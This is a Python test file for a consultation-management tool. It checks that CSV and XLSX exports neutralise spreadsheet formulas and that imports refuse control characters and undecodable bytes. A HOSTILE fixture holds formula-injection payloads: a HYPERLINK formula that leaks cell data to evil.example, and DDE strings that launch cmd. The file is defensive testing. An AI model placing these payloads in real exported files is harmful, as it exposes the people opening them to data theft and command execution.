"""Spreadsheets in and out: formulas neutralised in every CSV and XLSX written; control
characters and undecodable bytes refused on import with their row and column."""
from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import openpyxl
import pytest

from msf_desk.core import responses as r
from msf_desk.core.contributions_import import import_contributions
from msf_desk.core.contribution_columns import template as contributions_template
from msf_desk.model.errors import ImportFailed
from msf_desk.core.member_import import import_members
from msf_desk.core.members import list_members
from msf_desk.core.tabular import FORMULA_NOTE, read_table, spreadsheet_safe, write_template
from msf_desk.exports.responses import export_responses
from msf_desk.store.responses import contributions_of
from msf_desk.model.responses import Consultation, Contribution

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


# --- writing --------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2+3", "'-2+3"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"), ("+3.5", "+3.5"), ("1e3", "1e3"), ("plain", "plain"),
    ("", ""), (-3, -3), (2.5, 2.5), (None, None), ("a=b", "a=b"),
])
def test_the_one_rule(value, written):
    assert spreadsheet_safe(value) == written


@pytest.fixture
def hostile_consultation(db):
    cons = r.save_consultation(db, Consultation(
        name="Formulas", stage="draft_plan", opens_on=dt.date(2026, 3, 2), closes_on=dt.date(2026, 3, 20),
        channels=["email"]))
    for n, (key, text) in enumerate(HOSTILE.items()):
        r.add_contribution(db, Contribution(
            consultation_id=cons.id, received_on=dt.date(2026, 3, 3), contributor_name=f"{text} {key}",
            organisation=text, publish_name=True, text=text, theme=text, votes_for=n + 1, channel="email"))
    return cons


def test_open_data_csv_cells_from_user_text_are_neutralised_and_numbers_stay(db, hostile_consultation, tmp_path):
    [path] = export_responses(db, hostile_consultation.id, audience="public", formats=["csv"], out_dir=tmp_path,
                              today=dt.date(2026, 4, 1))
    rows = read_csv(path)
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("text", "theme"):
            assert row[column].startswith("'") and row[column][1:] in HOSTILE.values(), (column, row[column])
        assert row["contributor"].startswith("'")
        assert re.fullmatch(r"\d+", row["votes_for"]) and re.fullmatch(r"\d+", row["id"])
    # No cell of the file starts a formula.
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v)


def test_open_data_schema_says_so(db, hostile_consultation, tmp_path):
    import json

    [path] = export_responses(db, hostile_consultation.id, audience="public", formats=["json"], out_dir=tmp_path,
                              today=dt.date(2026, 4, 1))
    data = json.loads(path.read_text(encoding="utf-8"))
    assert FORMULA_NOTE in data["schema"]["csv"]
    assert data["contributions"][0]["text"] in HOSTILE.values()  # the JSON keeps the text as it is
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    assert "leading apostrophe" in readme


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_templates_neutralise_too_read_back_with_openpyxl_and_csv(tmp_path, suffix):
    path = write_template(tmp_path / f"t{suffix}", ["name", "note", "n"], ["=1+1", "@x", "-5"])
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path).active
        cells = [c for c in sheet[2]]
        assert [c.value for c in cells] == ["'=1+1", "'@x", "-5"]
        assert all(c.data_type == "s" for c in cells)  # text, never a formula
    else:
        assert read_csv(path) == [{"name": "'=1+1", "note": "'@x", "n": "-5"}]


def test_every_csv_and_xlsx_writer_goes_through_the_one_helper():
    """No module writes CSV or XLSX except through core.tabular's safe writers."""
    root = Path(__file__).parents[2] / "msf_desk"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "tabular.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        for pattern in (r"csv\.DictWriter\(", r"csv\.writer\(", r"Workbook\(\)", r"\.to_csv\("):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(root)}: {pattern}")
    assert offenders == []


# --- reading: control characters ------------------------------------------------------------------

MEMBERS = "name,organisation,sector\nAna Pop,Ministry,national government\n"


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f", "\x85"])
def test_a_control_character_in_a_member_import_is_refused_with_row_and_column(db, tmp_path, char):
    path = tmp_path / "members.csv"
    path.write_text(MEMBERS + f"Bo Li,Civic{char} Lab,civil society\n", encoding="utf-8")
    with pytest.raises(ImportFailed) as caught:
        import_members(db, path)
    [problem] = caught.value.problems
    assert (problem.row, problem.column) == (3, "organisation")
    assert "control character" in problem.message and ("NUL" if char == "\x00" else f"U+{ord(char):04X}") in \
        problem.message
    assert list_members(db) == []


def test_tabs_and_line_breaks_are_text(db, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text(MEMBERS + 'Bo Li,"Civic\tLab\r\nsecond line",civil society\n', encoding="utf-8")
    assert import_members(db, path).count == 2


def test_a_control_character_in_a_workbook_is_refused(db, tmp_path):
    path = tmp_path / "members.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["name", "organisation", "sector"])
    book.active.append(["Ana Pop", "Ministry", "national government"])
    book.active.append(["Bo_x0000_Li", "Lab", "civil society"])  # how Excel stores a NUL in a cell
    book.save(path)
    with pytest.raises(ImportFailed) as caught:
        import_members(db, path)
    assert [(p.row, p.column) for p in caught.value.problems] == [(3, "name")]
    assert "NUL" in caught.value.problems[0].message


def test_a_control_character_in_a_contributions_import_is_refused(db, tmp_path):
    cons = r.save_consultation(db, Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
                                                  closes_on=dt.date(2026, 3, 20), channels=["email"]))
    path = contributions_template(tmp_path / "contributions.csv")
    with open(path, "a", encoding="utf-8", newline="") as fh:
        fh.write("2026-03-04,email,Ana,,individual,yes,Fine,,,,,,\r\n")
        fh.write("2026-03-05,email,Bo,,individual,yes,Bad\x00text,,,,,,\r\n")
    with pytest.raises(ImportFailed) as caught:
        import_contributions(db, path, cons.id, today=dt.date(2026, 3, 21))
    assert [(p.row, p.column) for p in caught.value.problems] == [(4, "text")]
    assert contributions_of(db, cons.id) == []


# --- reading: honest decoding ---------------------------------------------------------------------

def test_a_utf8_file_with_one_stray_windows_byte_is_refused_naming_the_row(db, tmp_path):
    path = tmp_path / "members.csv"
    path.write_bytes("name,organisation,sector\n".encode() + "Zoë Ndlovu,Ünity Trust,civil society\n".encode()
                     + "Renée Blanc,Ville".encode() + b" de Gen\xe8ve" + ",local government\n".encode())
    with pytest.raises(ImportFailed) as caught:
        import_members(db, path)
    [problem] = caught.value.problems
    assert (problem.row, problem.column) == (3, "organisation")
    assert "E8" in problem.message and "Ville de Gen?ve" in problem.message
    assert "UTF-8" in caught.value.advice and "CSV UTF-8" in str(caught.value)
    assert list_members(db) == []  # and certainly no "ZoÃ«"


def test_a_pure_windows_1252_file_is_read_as_such_and_said(db, tmp_path):
    path = tmp_path / "members.csv"
    path.write_bytes("name,organisation,sector\nZoë Ndlovu,Genève Lab,civil society\n".encode("cp1252"))
    result = import_members(db, path)
    assert [m.name for m in list_members(db)] == ["Zoë Ndlovu"]
    assert any("Windows-1252" in note for note in result.notes)
    assert read_table(path).encoding == "windows-1252"


def test_a_file_neither_utf8_nor_windows_1252_is_refused(db, tmp_path):
    path = tmp_path / "members.csv"
    path.write_bytes(b"name,organisation,sector\nZo\x81 Ndlovu,Lab,civil society\n")
    with pytest.raises(ImportFailed) as caught:
        import_members(db, path)
    assert [(p.row, p.column) for p in caught.value.problems] == [(2, "name")]
    assert "neither UTF-8 nor Windows-1252" in str(caught.value)


def test_a_mixed_contributions_file_is_refused_naming_the_row(db, tmp_path):
    cons = r.save_consultation(db, Consultation(name="C", stage="draft_plan", opens_on=dt.date(2026, 3, 2),
                                                  closes_on=dt.date(2026, 3, 20), channels=["email"]))
    path = tmp_path / "contributions.csv"
    path.write_bytes("received,contributor,text\n2026-03-04,Łucja,Więcej czasu\n".encode()
                     + b"2026-03-05,Fran\xe7oise,Plus de temps\n")
    with pytest.raises(ImportFailed) as caught:
        import_contributions(db, path, cons.id, today=dt.date(2026, 3, 21))
    assert [(p.row, p.column) for p in caught.value.problems] == [(3, "contributor")]


def test_a_json_export_with_a_stray_byte_is_refused_by_line(tmp_path):
    path = tmp_path / "proposals.json"
    path.write_bytes('[{"id": 1, "title": "Zoë"},\n'.encode() + b'{"id": 2, "title": "Fran\xe7oise"}]')
    with pytest.raises(ImportFailed) as caught:
        read_table(path)
    [problem] = caught.value.problems
    assert problem.row == 2 and "E7" in problem.message
